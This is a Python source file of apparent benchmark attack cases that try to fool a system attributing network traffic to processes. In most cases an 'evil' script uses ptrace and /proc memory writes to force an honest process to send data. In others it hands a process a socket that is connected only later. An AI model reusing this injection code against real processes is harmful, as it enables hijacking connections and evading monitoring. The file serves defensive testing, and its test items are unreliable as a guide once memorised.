"""Honest programs that others have in their hands: traced and made to send, or handed a connection
before it was one.
"""

import os

from benchmarks.attribution_attacks.arena import SEND, Arena, Attack, attack, named, sends

_TRACES = r"""
import ctypes, struct
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
SEIZE, INTERRUPT, GET, SET, STEP, DETACH, ATTACH = 0x4206, 0x4207, 12, 13, 9, 17, 16
def do(request, pid, address=0, data=0):
    if libc.ptrace(request, pid, address, data) < 0:
        raise OSError(ctypes.get_errno(), "ptrace")
def make_it_send(pid, number, text):
    # a stopped process sends this text over its descriptor of this number, and knows nothing of it
    kept = (ctypes.c_ulonglong * 27)()
    do(GET, pid, 0, ctypes.addressof(kept))
    told = (ctypes.c_ulonglong * 27)(*kept)
    room = kept[19] - 4096 - len(text)
    with open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
        memory.seek(room); memory.write(text)
    # rip and orig_rax, rax: sendto(number, text, size, 0, 0, 0) by the instruction just behind
    told[16], told[15], told[10] = kept[16] - 2, (1 << 64) - 1, 44
    told[14], told[13], told[12], told[7], told[9], told[8] = number, room, len(text), 0, 0, 0
    do(SET, pid, 0, ctypes.addressof(told))
    do(STEP, pid)
    os.waitpid(pid, 0x40000000)
    if kept[15] < 1 << 32:  # begin anew the call in which it stood
        kept[16], kept[10], kept[15] = kept[16] - 2, kept[15], (1 << 64) - 1
    do(SET, pid, 0, ctypes.addressof(kept))
def said():
    told = json.dumps({"script": TRUTH["script"], "sha256": TRUTH["sha256"], "pid": None}).encode()
    return b"POST / HTTP/1.1\r\nX-Truth: " + told + b"\r\n\r\n"
"""
_HONEST = """
s = dial()
open("held", "w").write(f"{os.getpid()} {s.fileno()}"); os.rename("held", "holds")
s.recv(1); time.sleep(3)
"""


def _traced(before: str, after: str, honest: str = _HONEST) -> Attack:
    """The tracer is the sender, whoever holds the connection and stands in its read."""

    def make(arena: Arena) -> None:
        good = arena.write("good.py", honest, note="good")
        body = f"{_TRACES}\ntime.sleep(0.7)\n{before}\nmake_it_send(pid, number, said())\n{after}\n"
        arena.write("evil.py", body)
        arena.python(str(good))
        arena.until("holds")
        arena.python("evil.py")

    return make


_TAKE = 'pid, number = map(int, open("holds").read().split())\n'
_STOP = f"{_TAKE}do(ATTACH, pid); os.waitpid(pid, 0x40000000)"
_TRACED_FROM_ITS_START = r"""
pid = os.fork()
if pid == 0:
    libc.ptrace(0, 0, 0, 0)
    os.execv(sys.executable, [sys.executable, os.path.abspath("good.py")])
os.waitpid(pid, 0); do(7, pid)
while not os.path.exists("holds"):
    time.sleep(0.01)
time.sleep(0.7)
number = int(open("holds").read().split()[1])
os.kill(pid, 19); os.waitpid(pid, 0)
"""
if os.uname().machine == "x86_64":
    named("made to send by a tracer, which stays", _traced(_STOP, "do(7, pid); time.sleep(3)"))
    named("made to send by a tracer, which lets go", _traced(_STOP, "do(DETACH, pid)"))
    named(
        "made to send by a tracer, which ends",
        _traced(_STOP, "do(7, pid); time.sleep(0.01); os._exit(0)"),
    )

    @attack
    def made_to_send_by_the_tracer_that_started_it(arena: Arena) -> None:
        arena.write("good.py", _HONEST, note="good")
        ends = "make_it_send(pid, number, said()); do(DETACH, pid); time.sleep(3)\n"
        arena.write("evil.py", f"{_TRACES}{_TRACED_FROM_ITS_START}{ends}")
        arena.python("evil.py")

    @attack
    def made_to_send_by_the_tracer_that_started_it_and_ends(arena: Arena) -> None:
        arena.write("good.py", _HONEST, note="good")
        ends = "make_it_send(pid, number, said()); do(7, pid); os._exit(0)\n"
        arena.write("evil.py", f"{_TRACES}{_TRACED_FROM_ITS_START}{ends}")
        arena.python("evil.py")

    @attack
    @sends(2)
    def a_known_sender_made_to_send_by_a_tracer(arena: Arena) -> None:
        known = _HONEST.replace("s.recv(1)", "s.recv(100)")
        honest = known.replace("s = dial()", "s = dial(); ask(s); time.sleep(1.2)")
        good = arena.write("good.py", honest, note="good")
        body = f"{_TRACES}\n{_STOP}\nmake_it_send(pid, number, said())\ndo(DETACH, pid)\n"
        arena.write("evil.py", body)
        arena.python(str(good))
        arena.until("holds")
        arena.python("evil.py")


# --- handed before it was a connection

_AS_ITS_INPUT = """
import signal, subprocess
s = socket.socket()
os.set_inheritable(s.fileno(), True)
child = subprocess.Popen(COMMAND, stdin=GIVEN, pass_fds=[s.fileno()])
STOPS
time.sleep(1.2)
told = json.dumps({"script": TRUTH["script"], "sha256": TRUTH["sha256"], "pid": os.getpid()}).encode()
s.connect(("127.0.0.1", int(os.environ["GATE_PORT"])))
s.sendall(b"POST / HTTP/1.1\\r\\nX-Truth: " + told + b"\\r\\n\\r\\n"); s.close()
GOES
time.sleep(3)
"""


def _given(command: str, honest: str, *, stopped: bool = False, given: str = "s") -> Attack:
    """Another program is given a socket at its start, which is connected later; it reads it."""

    def make(arena: Arena) -> None:
        arena.write("good.py", honest, note="good")
        body = _AS_ITS_INPUT.replace("COMMAND", command).replace("GIVEN", given)
        stop = "time.sleep(0.15); child.send_signal(signal.SIGSTOP)" if stopped else ""
        go = "child.send_signal(signal.SIGCONT)" if stopped else ""
        arena.write("evil.py", body.replace("STOPS", stop).replace("GOES", go))
        arena.python(str(arena.folder / "evil.py"))

    return make


_READS = "time.sleep(1); sys.stdin.buffer.read(1); time.sleep(3)\n"
_READS_LATE = "time.sleep(1.25); sys.stdin.buffer.read(1); time.sleep(3)\n"
_POLLS = """
import select
p = select.poll(); p.register(int(sys.argv[1]), select.POLLIN); time.sleep(1.25); p.poll(3000)
"""
_GOOD = "[sys.executable, os.path.abspath('good.py'), str(s.fileno())]"
named("given as standard input before it was connected", _given(_GOOD, _READS_LATE))
named("given before it was connected to a stopped program", _given(_GOOD, _READS, stopped=True))
named("given by number before it was connected", _given(_GOOD, _POLLS, given="None"))
named(
    "given as standard input to another kind of program",
    _given("['bash', '-c', 'sleep 1.25; read x; sleep 3']", SEND),
)
